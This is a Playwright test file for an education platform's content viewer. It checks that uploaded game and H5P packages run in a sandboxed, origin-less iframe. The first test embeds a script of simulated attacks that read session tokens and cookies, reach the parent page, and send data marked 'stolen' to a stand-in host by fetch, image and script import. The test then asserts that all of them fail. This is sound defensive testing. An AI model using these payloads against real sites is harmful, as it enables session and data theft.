import type { Page } from '@playwright/test';
import { zipFile } from '../../server/src/platform/import/testing/zip-file.ts';
import { Api } from '../src/api.ts';
import { openSchool } from '../src/class-room.ts';
import { expect, signIn, test } from '../src/journey.ts';
import { publishContent } from '../src/publish-content.ts';

// The browser says of each attack that it was refused.
test.use({ expectedIssues: /./ });

/** Each tries to reach something, and resolves where it did. */
const attacks = `
const attacks = {
  'the token': () => localStorage.getItem('session'),
  'the cookie': () => document.cookie,
  'what the page stores': () => new Promise((yes, no) => {
    const opening = indexedDB.open('shala');
    opening.onsuccess = yes;
    opening.onerror = no;
  }),
  'the page': () => parent.document.title + (parent === window ? fail() : ''),
  'the storage of the page': () => parent.localStorage.length + (parent === window ? fail() : 0),
  'the address of the page': () => parent === window ? fail() : void (top.location.href = 'https://elsewhere.example/'),
  'the API': () => fetch('/api/dashboard/fetchAll', { credentials: 'include' }),
  'an open row of the API': () => fetch('/config.json'),
  'another site': () => fetch('https://elsewhere.example/?stolen'),
  'another site by a picture': () => new Promise((yes, no) => {
    const picture = new Image();
    picture.onload = yes;
    picture.onerror = no;
    picture.src = 'https://elsewhere.example/a.png?stolen';
  }),
  'another site by a script': () => import('https://elsewhere.example/a.js'),
  'a worker of the site': () => navigator.serviceWorker.register('play.js'),
  'another window': () => window.open('/dashboard') ?? fail(),
};
const fail = () => { throw new Error('refused'); };
const reached = [];
for (const [name, attack] of Object.entries(attacks)) {
  try {
    await attack();
    reached.push(name);
  } catch {}
}
const own = await (await fetch('data.json')).json();
document.getElementById('result').textContent =
  'own: ' + own.word + '; reached: ' + (reached.join(', ') || 'nothing') + '; origin: ' + origin;
`;

const result = 'own: Namaste; reached: nothing; origin: null';

async function publishPackage(page: Page, api: Api, url: string, parts: Record<string, string>) {
  const { school, principal } = await openSchool(api, url);
  const { id: subjectId } = await api.call('subject/addEdit', {
    body: { name: 'Mathematics', standards: [5] },
  });
  const head = await new Api(url).signIn(principal.email, principal.password);
  const { id } = await publishContent(head, {
    schoolId: school.id,
    subjectId,
    name: 'A game',
    fileName: 'game.zip',
    bytes: zipFile(Object.entries(parts).map(([name, content]) => ({ name, content }))),
  });
  await signIn(page, principal.email, principal.password, `/content-management/item/${id}`);
}

test('a package reaches nothing but its own files, in the page and opened by itself', async ({
  page,
  context,
  api,
  server,
}) => {
  const away: string[] = [];
  await context.route('https://elsewhere.example/**', (route) => {
    away.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await publishPackage(page, api, server.url, {
    'index.html': '<p id="result">…</p><script type="module" src="play.js"></script>',
    'play.js': attacks,
    'data.json': '{"word":"Namaste"}',
  });
  const frame = page.locator('iframe');
  await expect(page.frameLocator('iframe').locator('#result')).toHaveText(result);
  expect(await frame.getAttribute('sandbox')).toBe('allow-scripts');

  const byItself = await context.newPage();
  await byItself.goto(
    server.url + new URL((await frame.getAttribute('src')) ?? '', server.url).pathname,
  );
  await expect(byItself.locator('#result')).toHaveText(result);
  await byItself.close();
  expect(away).toEqual([]);
});

test('an H5P package is played in the frame without an origin', async ({ page, api, server }) => {
  const library = { machineName: 'H5P.Greeting', majorVersion: 1, minorVersion: 0 };
  await publishPackage(page, api, server.url, {
    'h5p.json': JSON.stringify({
      title: 'Greeting',
      mainLibrary: 'H5P.Greeting',
      embedTypes: ['div'],
      preloadedDependencies: [library],
    }),
    'content/content.json': '{"text":"Namaste"}',
    'H5P.Greeting-1.0/library.json': JSON.stringify({
      ...library,
      title: 'Greeting',
      runnable: 1,
      preloadedJs: [{ path: 'greeting.js' }],
      preloadedCss: [{ path: 'greeting.css' }],
    }),
    'H5P.Greeting-1.0/greeting.css': '.greeting { color: rgb(0, 0, 128) }',
    'H5P.Greeting-1.0/greeting.js': `var H5P = H5P || {};
      H5P.Greeting = function (params) {
        this.attach = function ($container) {
          $container.html('<p class="greeting">' + params.text + '</p>');
        };
      };`,
  });
  const greeting = page.frameLocator('iframe').locator('.greeting');
  await expect(greeting).toHaveText('Namaste');
  await expect(greeting).toHaveCSS('color', 'rgb(0, 0, 128)');
});
